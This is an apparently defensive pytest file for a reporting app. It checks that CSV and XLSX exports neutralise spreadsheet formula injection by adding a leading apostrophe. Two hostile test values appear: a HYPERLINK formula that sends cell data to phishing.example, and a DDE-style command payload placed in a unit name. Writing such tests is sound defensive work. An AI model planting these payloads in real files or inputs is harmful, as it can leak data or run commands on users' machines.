"""No download runs what someone typed: text that begins like a formula (=, +, -, @, a tab, a
carriage return) reaches the template and the scorecard files with a leading apostrophe, as
text; numbers stay numbers; a filled template sent back keeps the citation as it was stored."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from ioc57.indicators.headings import column

from ..support.http import auth
from .test_template import download, fill, person, stored, upload

HOSTILE = '=HYPERLINK("http://phishing.example/?d="&A1,"Báo cáo")'
AGENCY = {"code": "SKHCN-82", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "parent": "82", "type": "sở"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_begins_like_a_formula_gets_an_apostrophe(start):
    from ioc57.core.export import safe_cell

    assert safe_cell(f"{start}1+2") == f"'{start}1+2"


def test_numbers_and_ordinary_text_stay_as_they_are():
    from ioc57.core.export import safe_cell

    assert safe_cell(-3.5) == -3.5 and safe_cell(-2) == -2 and safe_cell(None) is None
    assert safe_cell("Báo cáo số 12") == "Báo cáo số 12" and safe_cell("") == ""


def csv_lines(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_a_hostile_citation_is_text_in_both_templates_and_comes_back_unchanged(client, api):
    browser, csrf, token = person(api, "lanhdao", "leader")
    r = client.post(
        "/api/v1/observations",
        json=[
            {
                "indicator": "hotline_1022_reports",
                "unit": "82",
                "period": "202509",
                "value": 120,
                "source": HOSTILE,
            }
        ],
        headers=auth(token),
    )
    assert r.status_code == 200, r.text
    lines = csv_lines(download(browser, "csv", "82", "202509").content)
    row = next(line for line in lines if line[0] == "hotline_1022_reports")
    assert row[[column(h) for h in lines[0]].index("source")] == "'" + HOSTILE
    book = load_workbook(io.BytesIO(download(browser, "xlsx", "82", "202509").content))
    sheet = book.worksheets[0]
    (cell,) = [c for c in sheet["G"] if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cell.value == "'" + HOSTILE and cell.data_type == "s"
    body, _ = fill(book, {"hotline_1022_reports": {"value": 121}})
    assert upload(browser, csrf, "mau.xlsx", body).status_code == 200
    assert stored(client, token)["hotline_1022_reports"]["citation"] == HOSTILE


def test_a_hostile_unit_name_is_text_in_the_scorecard_files(client, api):
    r = client.post("/api/v1/units", json=AGENCY, headers=auth(api.token("admin")))
    assert r.status_code == 201, r.text
    params = {"unit": AGENCY["code"], "year": 2025}
    r = client.get("/scorecard.csv", params=params)
    assert r.status_code == 200, r.text
    assert csv_lines(r.content)[0][0] == f"'{AGENCY['name']} · 2025"
    r = client.get("/scorecard.xlsx", params=params)
    assert r.status_code == 200, r.text
    cell = load_workbook(io.BytesIO(r.content)).active["A1"]
    assert cell.value == f"'{AGENCY['name']} · 2025" and cell.data_type == "s"
